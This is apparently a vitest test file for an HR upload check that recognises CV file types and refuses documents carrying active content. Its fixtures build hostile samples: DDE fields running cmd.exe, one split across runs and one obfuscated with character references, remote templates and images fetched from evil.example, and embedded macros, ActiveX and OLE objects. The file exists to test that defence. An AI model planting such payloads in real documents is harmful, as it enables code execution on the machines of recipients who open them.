import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { safeFileName } from '@app/domain/claims/document-files';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  docxOf,
  odtOf,
  oleOf,
  oleStorage,
  oleStream,
  relsOf,
  rtfOf,
  wordParagraph,
} from '../../../test/office-files';
import {
  type ApplicationFileType,
  activeContentOf,
  recogniseApplicationFile,
  zipEntryNames,
} from './application-file-types';

const fixtures = path.resolve(
  path.dirname(fileURLToPath(import.meta.url)),
  '../../../test/fixtures/job-files',
);
const fixture = (name: string) => readFileSync(path.join(fixtures, name));

const pdf = Buffer.from('%PDF-1.7\nCV\n%%EOF');
const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]);
const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]);
const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00'), Buffer.alloc(200)]);

describe('recogniseApplicationFile', () => {
  it.each([
    ['pdf', pdf, 'application/pdf'],
    ['jpeg', jpeg, 'image/jpeg'],
    [
      'docx',
      fixture('lettre.docx'),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    ['odt', fixture('lettre.odt'), 'application/vnd.oasis.opendocument.text'],
    ['doc', fixture('lettre.doc'), 'application/msword'],
    ['rtf', fixture('lettre.rtf'), 'application/rtf'],
    ['txt', Buffer.from('Jeanne Müller\nConseillère clientèle\n'), 'text/plain; charset=utf-8'],
  ] as const)('recognises %s by its bytes', (kind, bytes, mimeType) => {
    expect(recogniseApplicationFile(bytes)).toMatchObject({ kind, mimeType });
  });

  it.each([
    ['a PNG image', png],
    ['a Windows executable', exe],
    ['an Excel 97 workbook (OLE2 without a WordDocument stream)', fixture('tableau.xls')],
    ['a macro-enabled document renamed .docx', fixture('macros.docx')],
    ['an OpenDocument spreadsheet', fixture('tableau.ods')],
    ['a plain ZIP archive', fixture('archive.zip')],
    ['a truncated docx', fixture('lettre.docx').subarray(0, 4000)],
    ['a truncated doc', fixture('lettre.doc').subarray(0, 700)],
    ['Latin-1 text (not UTF-8)', Buffer.from('Müller', 'latin1')],
    ['text with a NUL', Buffer.from('Jeanne\u0000Muller')],
    ['an empty file', Buffer.alloc(0)],
  ])('refuses %s', (_name, bytes) => {
    expect(recogniseApplicationFile(bytes)).toBeNull();
  });

  it('reads the entries of a real ZIP', () => {
    expect(zipEntryNames(fixture('lettre.docx'))).toEqual(
      expect.arrayContaining(['[Content_Types].xml', 'word/document.xml']),
    );
    expect(zipEntryNames(pdf)).toBeNull();
  });

  it('never throws on damaged files (random truncations and byte changes)', () => {
    const samples = ['lettre.docx', 'lettre.odt', 'lettre.doc', 'tableau.xls'].map(fixture);
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: samples.length - 1 }),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 20 }),
        fc.nat(),
        (which, changes, cut) => {
          const bytes = Buffer.from(samples[which] ?? pdf);
          for (const [at, value] of changes) bytes[at % bytes.length] = value;
          const damaged = bytes.subarray(0, Math.max(1, bytes.length - (cut % bytes.length)));
          const type = recogniseApplicationFile(damaged);
          expect(type === null || typeof type.kind === 'string').toBe(true);
        },
      ),
      { numRuns: 400 },
    );
  });
});

describe('the stored name of an application file (safeFileName with the kind found)', () => {
  const docx = recogniseApplicationFile(fixture('lettre.docx'));
  const jpg = recogniseApplicationFile(jpeg);
  const nameOf = (name: string, type: ApplicationFileType) =>
    safeFileName(name, type.extension, type.aliases ?? []);

  it('keeps a name with the right extension, and gives the real one otherwise', () => {
    if (!docx || !jpg) throw new Error('fixtures not recognised');
    expect(nameOf('Lettre Muller.docx', docx)).toBe('Lettre Muller.docx');
    expect(nameOf('Lettre Muller.pdf', docx)).toBe('Lettre Muller.pdf.docx');
    expect(nameOf('photo.JPEG', jpg)).toBe('photo.JPEG');
    expect(nameOf('C:\\Users\\jm\\<cv>.docx', docx)).toBe('cv.docx');
    expect(nameOf('', docx)).toBe('document.docx');
    expect(nameOf(`${'x'.repeat(200)}.docx`, docx)).toMatch(/^x+\.docx$/);
  });
});

/** What the upload check says of a file: its kind, and why it is refused (null: accepted). */
function check(bytes: Buffer) {
  const type = recogniseApplicationFile(bytes);
  return { kind: type?.kind ?? null, refused: type ? activeContentOf(bytes, type.kind) : null };
}

describe('activeContentOf (issue 11 item 6: nothing that acts when HR opens the file)', () => {
  it.each([
    ['the docx fixture', fixture('lettre.docx'), 'docx'],
    ['the odt fixture', fixture('lettre.odt'), 'odt'],
    ['the doc fixture', fixture('lettre.doc'), 'doc'],
    ['the rtf fixture', fixture('lettre.rtf'), 'rtf'],
    ['a small docx', docxOf(), 'docx'],
    [
      'a docx with a web link',
      docxOf({
        documentRels: [
          { type: 'hyperlink', target: 'https://www.linkedin.com/in/jeanne', isExternal: true },
        ],
      }),
      'docx',
    ],
    [
      'a docx with an ordinary field (page number)',
      docxOf({ body: '<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>' }),
      'docx',
    ],
    ['a small odt', odtOf(), 'odt'],
    ['a small doc', oleOf([['WordDocument', oleStream]]), 'doc'],
    ['a small rtf', rtfOf(), 'rtf'],
    ['an rtf with a web link', rtfOf('{\\field{\\*\\fldinst HYPERLINK "https://x.ch"}}'), 'rtf'],
  ] as const)('accepts %s', (_name, bytes, kind) => {
    expect(check(bytes)).toEqual({ kind, refused: null });
  });

  it.each([
    [
      'macros in word/ (vbaProject.bin)',
      docxOf({ extraParts: [{ name: 'word/vbaProject.bin', content: Buffer.alloc(64) }] }),
    ],
    [
      'an embedded object (word/embeddings/)',
      docxOf({
        extraParts: [{ name: 'word/embeddings/oleObject1.bin', content: oleOf([]) }],
      }),
    ],
    [
      'an ActiveX control',
      docxOf({ extraParts: [{ name: 'word/activeX/activeX1.xml', content: '<ax/>' }] }),
    ],
    [
      'a template fetched from a server (attachedTemplate, External)',
      docxOf({
        extraParts: [
          {
            name: 'word/_rels/settings.xml.rels',
            content: relsOf([
              {
                type: 'attachedTemplate',
                target: 'https://evil.example/t.dotm',
                isExternal: true,
              },
            ]),
          },
        ],
      }),
    ],
    [
      'an image fetched from a server',
      docxOf({
        documentRels: [
          { type: 'image', target: 'file://evil.example/share/x.png', isExternal: true },
        ],
      }),
    ],
    [
      'a DDE field cut into runs',
      docxOf({
        body: `${wordParagraph('CV')}<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`,
      }),
    ],
    [
      'a DDE field written with character references',
      docxOf({ body: '<w:p><w:fldSimple w:instr="&#68;DEAUTO cmd &quot;/k calc&quot;"/></w:p>' }),
    ],
  ])('refuses a docx with %s', (_name, bytes) => {
    const { refused } = check(bytes);
    // a macro-enabled document is not even recognised as a docx; the others are, and refused
    expect(refused !== null || recogniseApplicationFile(bytes) === null).toBe(true);
    expect(activeContentOf(bytes, 'docx')).not.toBeNull();
  });

  it.each([
    [
      'Basic macros',
      odtOf({ extraParts: [{ name: 'Basic/Standard/Module1.xml', content: '<script:module/>' }] }),
    ],
    [
      'Python scripts',
      odtOf({ extraParts: [{ name: 'Scripts/python/run.py', content: 'import os' }] }),
    ],
    [
      'an embedded object',
      odtOf({ extraParts: [{ name: 'Object 1/content.xml', content: '<office:document/>' }] }),
    ],
    [
      'an embedded OLE object',
      odtOf({
        manifestEntries:
          '<manifest:file-entry manifest:full-path="Object 2" manifest:media-type="application/vnd.sun.star.oleobject"/>',
      }),
    ],
    [
      'a draw:object in the text',
      odtOf({ body: '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>' }),
    ],
    [
      'an event listener calling a macro',
      odtOf({
        body: '<office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:Tools.Misc.Run?language=Basic&amp;location=application"/></office:event-listeners>',
      }),
    ],
  ])('refuses an odt with %s', (_name, bytes) => {
    expect(check(bytes)).toMatchObject({ kind: 'odt', refused: expect.any(String) });
  });

  it.each([
    [
      'macros (Macros/VBA storages)',
      oleOf([
        ['WordDocument', oleStream],
        ['Macros', oleStorage],
        ['VBA', oleStorage],
      ]),
    ],
    [
      'an embedded object (ObjectPool)',
      oleOf([
        ['WordDocument', oleStream],
        ['ObjectPool', oleStorage],
      ]),
    ],
  ])('refuses a doc with %s', (_name, bytes) => {
    expect(check(bytes)).toMatchObject({ kind: 'doc', refused: expect.any(String) });
  });

  it.each([
    ['an OLE object (\\object, \\objdata)', rtfOf('{\\object\\objemb{\\*\\objdata 0105000002}}')],
    ['\\objupdate', rtfOf('{\\object\\objautlink\\objupdate\\rsltpict}')],
    ['a template fetched on opening', rtfOf('{\\*\\template https://evil.example/t.dot}')],
    ['a DDE field', rtfOf('{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\windows\\\\cmd.exe}}}')],
  ])('refuses an rtf with %s', (_name, bytes) => {
    expect(check(bytes)).toMatchObject({ kind: 'rtf', refused: expect.any(String) });
  });

  it('never throws on damaged files (random truncations and byte changes)', () => {
    const samples = [
      fixture('lettre.docx'),
      fixture('lettre.odt'),
      fixture('lettre.doc'),
      docxOf({ documentRels: [{ type: 'hyperlink', target: 'https://x.ch', isExternal: true }] }),
    ];
    const kinds = ['docx', 'odt', 'doc', 'docx'] as const;
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: samples.length - 1 }),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 20 }),
        fc.nat(),
        (which, changes, cut) => {
          const bytes = Buffer.from(samples[which] ?? pdf);
          for (const [at, value] of changes) bytes[at % bytes.length] = value;
          const damaged = bytes.subarray(0, Math.max(1, bytes.length - (cut % bytes.length)));
          const reason = activeContentOf(damaged, kinds[which] ?? 'docx');
          expect(reason === null || typeof reason === 'string').toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });
});
